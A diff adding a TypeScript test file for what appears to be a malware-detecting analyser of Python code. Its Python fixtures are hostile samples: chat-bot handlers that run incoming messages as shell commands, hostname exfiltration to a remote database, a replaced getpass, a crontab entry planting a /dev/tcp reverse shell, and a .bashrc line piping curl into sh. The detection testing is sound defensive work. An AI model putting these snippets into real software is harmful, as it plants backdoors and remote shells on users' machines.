@@ -1,0 +1,110 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { FactKind } from '../../../../src/contracts/fact.ts';
+import { evaluate, lines } from '../../../support/evaluated.ts';
+
+/** Name, source of `own.py`, kinds of facts, and those facts in the order they are found. */
+const CASES: [string, string, FactKind[], string[]][] = [
+  [
+    'a handler that a chat library is given by a decorator',
+    `import os, telebot
+bot = telebot.TeleBot('1')
+@bot.message_handler(commands=['run'])
+def run(message):
+    os.system(message.text)`,
+    ['flow'],
+    ['own.py:5 call flow network-response telebot.TeleBot.message_handler > process os.system …'],
+  ],
+  [
+    'a command of a bot, and the text after it',
+    `import os
+from discord.ext import commands
+bot = commands.Bot('!')
+@bot.command()
+async def shell(ctx, *, text):
+    os.popen(text)`,
+    ['flow'],
+    ['own.py:6 call flow network-response discord.ext.commands.Bot.command > process os.popen …'],
+  ],
+  [
+    'a handler that is assigned',
+    `import os
+import paho.mqtt.client as mqtt
+def on_message(client, userdata, message):
+    os.system(message.payload)
+client = mqtt.Client()
+client.on_message = on_message`,
+    ['flow'],
+    ['own.py:4 call flow network-response paho.mqtt.client.Client.on_message > process os.system …'],
+  ],
+  [
+    'a method by which a class gets messages',
+    `import os, irc.bot
+class Own(irc.bot.SingleServerIRCBot):
+    def on_pubmsg(self, connection, event):
+        os.system(event.arguments)`,
+    ['flow'],
+    ['own.py:4 call flow network-response irc.bot.SingleServerIRCBot.on_pubmsg > process os.system …'],
+  ],
+  [
+    'a method of that name in a class of its own',
+    `import os
+class Own:
+    def on_message(self, text):
+        os.system(text)`,
+    ['flow'],
+    [],
+  ],
+  [
+    'cells of a table and calls of a contract',
+    `import gspread, os
+from web3 import Web3
+os.system(gspread.service_account().open('x').sheet1.acell('A1').value)
+os.system(Web3(Web3.HTTPProvider('https://a.invalid')).eth.contract('0x1').functions.get().call())`,
+    ['flow'],
+    [
+      'own.py:3 import flow network-response gspread.service_account.open.sheet1.acell A1 > process os.system «gspread.service_account.open.sheet1.acell.value»',
+      'own.py:4 import flow network-response web3.Web3.eth.contract.functions.get.call > process os.system «web3.Web3.eth.contract.functions.get.call»',
+    ],
+  ],
+  [
+    'a record for a database elsewhere',
+    `import pymongo, socket
+pymongo.MongoClient('mongodb://a.invalid').db.hosts.insert_one({'h': socket.gethostname()})`,
+    ['flow'],
+    [
+      'own.py:2 import flow host-identity socket.gethostname > network-send pymongo.MongoClient.db.hosts.insert_one …',
+    ],
+  ],
+  [
+    'a function of another library that is replaced',
+    `import getpass
+def asked(prompt=''):
+    return ''
+getpass.getpass = asked`,
+    ['behaviour'],
+    ['own.py:4 import behaviour function-replaced getpass.getpass by asked'],
+  ],
+  [
+    'a command whose quotes break the program',
+    `import os
+os.system("(crontab -l ; echo "*/5 * * * * /bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1") | crontab -")`,
+    ['command'],
+    [
+      'own.py:2 import command shell spawn (crontab -l ; echo "*/5 * * * * /bin/bash -i >& /dev/tcp/192.0.2.1/1 0>&1") | crontab -',
+    ],
+  ],
+  [
+    'a line for a shell profile',
+    `import os
+open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s https://a.invalid | sh')`,
+    ['command'],
+    ['own.py:2 import command shell written-file curl -s https://a.invalid | sh'],
+  ],
+];
+
+describe('what reaches a program from outside, and what it puts in the place of others', () => {
+  for (const [name, source, kinds, expected] of CASES) {
+    it(name, () => assert.deepEqual(lines(evaluate(source), ...kinds), expected));
+  }
+});
